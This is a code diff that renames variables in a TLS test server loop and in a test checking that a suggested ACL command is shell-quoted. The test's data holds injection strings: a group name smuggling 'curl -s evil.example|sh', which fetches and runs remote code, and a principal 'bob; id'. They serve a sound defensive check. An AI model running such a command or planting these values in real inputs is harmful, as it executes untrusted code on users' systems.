@@ -215,8 +215,8 @@ class TlsPort:
                 return
             with self._context.wrap_socket(peer, server_side=True) as secure:
                 self.agreed += 1
-                while said := secure.recv(1_000):
-                    self.heard += said
+                while output := secure.recv(1_000):
+                    self.heard += output
 
     def wait(self) -> None:
         for thread in self._serving:
@@ -355,7 +355,7 @@ def test_config_check_suggested_command_is_quoted() -> None:
     evil = "x; curl -s evil.example|sh #"
     acl = Acl("DESCRIBE", "GROUP", evil)
     who = Sasl("PLAIN", Password("bob; id", Secret("x")))
-    told = _grant(ClientSettings((("h", 1),), security=Security(None, who)), [acl]).partition(": ")[2]
-    words = shlex.split(told)
+    answer = _grant(ClientSettings((("h", 1),), security=Security(None, who)), [acl]).partition(": ")[2]
+    words = shlex.split(answer)
     assert words[words.index("--group") + 1] == evil
     assert words[words.index("--allow-principal") + 1] == "User:bob; id"
